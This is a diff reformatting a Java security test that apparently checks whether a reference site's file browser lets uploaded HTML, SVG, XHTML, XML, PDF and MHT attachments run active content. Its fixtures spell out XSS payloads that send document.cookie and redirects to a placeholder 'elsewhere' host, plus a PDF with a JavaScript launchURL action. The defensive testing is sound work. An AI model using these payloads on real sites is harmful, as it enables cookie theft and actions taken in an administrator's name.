@@ -94,8 +94,11 @@ class ActiveFilesBrowserTest {
                 assertThat(heard).as(address + ", shown").isEmpty();
             }
             assertThat(heard).isEmpty();
-            assertThat(asked).noneMatch(each -> each.contains("/curation") || each.contains("leak"));
-            assertThat(asked).filteredOn(each -> each.contains("/fichiers/")).hasSizeGreaterThan(10);
+            assertThat(asked)
+                    .noneMatch(each -> each.contains("/curation") || each.contains("leak"));
+            assertThat(asked)
+                    .filteredOn(each -> each.contains("/fichiers/"))
+                    .hasSizeGreaterThan(10);
             admin.page("/curation"); // The session still stands.
             assertThat(admin.get("/curation").statusCode()).isEqualTo(200);
         }
@@ -103,45 +106,71 @@ class ActiveFilesBrowserTest {
 
     /** Each tries to say that it ran, to read a cookie, and to act in the admin's name. */
     private String html() {
-        return "<!DOCTYPE html><html><body onload=\"" + script() + "\"><script>" + script() + "</script>"
-                + "<img src=x onerror=\"" + script() + "\"><iframe src=/curation></iframe>"
-                + "<meta http-equiv=refresh content='0;url=" + elsewhere + "/leak-refresh'>"
+        return "<!DOCTYPE html><html><body onload=\""
+                + script()
+                + "\"><script>"
+                + script()
+                + "</script>"
+                + "<img src=x onerror=\""
+                + script()
+                + "\"><iframe src=/curation></iframe>"
+                + "<meta http-equiv=refresh content='0;url="
+                + elsewhere
+                + "/leak-refresh'>"
                 + "<form action=/curation/sortir method=post id=f></form>";
     }
 
     private String script() {
-        return "fetch('/curation/moi');new Image().src='" + elsewhere + "/leak-cookie?'+document.cookie;"
-                + "location='" + elsewhere + "/leak-location'";
+        return "fetch('/curation/moi');new Image().src='"
+                + elsewhere
+                + "/leak-cookie?'+document.cookie;"
+                + "location='"
+                + elsewhere
+                + "/leak-location'";
     }
 
     private List<String> files() throws IOException {
         Map<String, String> contents = new LinkedHashMap<>();
         String svg =
-                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + script().replace("\"", "'")
-                        + "\"><script>" + script().replace("&", "&amp;") + "</script></svg>";
+                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\""
+                        + script().replace("\"", "'")
+                        + "\"><script>"
+                        + script().replace("&", "&amp;")
+                        + "</script></svg>";
         contents.put("instantane.html|text/html", html());
         contents.put("dessin.svg|image/svg+xml", "<?xml version=\"1.0\"?>" + svg);
         contents.put(
                 "page.xhtml|application/xhtml+xml",
-                "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>" + script() + "</script></html>");
+                "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>"
+                        + script()
+                        + "</script></html>");
         contents.put(
                 "donnees.xml|text/xml",
-                "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"" + elsewhere
-                        + "/leak-xsl\"?><a>" + svg + "</a>");
+                "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\""
+                        + elsewhere
+                        + "/leak-xsl\"?><a>"
+                        + svg
+                        + "</a>");
         contents.put("article.pdf|application/pdf", pdf());
         contents.put("deux.pdf|text/html", "<!--%PDF-1.4-->" + html());
         contents.put("notes.txt|text/plain", html());
-        contents.put("page.mht|multipart/related", "MIME-Version: 1.0\nContent-Type: text/html\n\n" + html());
-        return contents.entrySet().stream().map(each -> {
-            String[] named = each.getKey().split("\\|", -1);
-            return held(named[0], named[1], each.getValue());
-        }).toList();
+        contents.put(
+                "page.mht|multipart/related",
+                "MIME-Version: 1.0\nContent-Type: text/html\n\n" + html());
+        return contents.entrySet().stream()
+                .map(each -> {
+                    String[] named = each.getKey().split("\\|", -1);
+                    return held(named[0], named[1], each.getValue());
+                })
+                .toList();
     }
 
     private String pdf() {
         return "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('"
                 + elsewhere
-                + "/leak-pdf'\\);)>>/AA<</WC<</S/URI/URI(" + elsewhere + "/leak-uri)>>>>>>endobj\n"
+                + "/leak-pdf'\\);)>>/AA<</WC<</S/URI/URI("
+                + elsewhere
+                + "/leak-uri)>>>>>>endobj\n"
                 + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                 + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
                 + "trailer<</Root 1 0 R>>\n%%EOF";
@@ -183,12 +212,30 @@ class ActiveFilesBrowserTest {
         try {
             Path file = Files.writeString(folder.resolve("incoming"), content);
             Attachment attachment =
-                    new Attachment("", LinkMode.IMPORTED_FILE, Presence.STORED, "La pièce", type, "files/4/" + name, "", "", "", List.of())
+                    new Attachment(
+                                    "",
+                                    LinkMode.IMPORTED_FILE,
+                                    Presence.STORED,
+                                    "La pièce",
+                                    type,
+                                    "files/4/" + name,
+                                    "",
+                                    "",
+                                    "",
+                                    List.of())
                             .kept(site.files().keep(file));
             String key =
                     site.add(
-                            new Record(name, "report", Map.of("title", "Un rapport"), List.of(), List.of(), List.of(),
-                                    List.of(attachment), List.of(), List.of()));
+                            new Record(
+                                    name,
+                                    "report",
+                                    Map.of("title", "Un rapport"),
+                                    List.of(),
+                                    List.of(),
+                                    List.of(),
+                                    List.of(attachment),
+                                    List.of(),
+                                    List.of()));
             return site.page("/references/" + key).select("a[href*=/fichiers/]").attr("href");
         } catch (IOException e) {
             throw new java.io.UncheckedIOException(e);
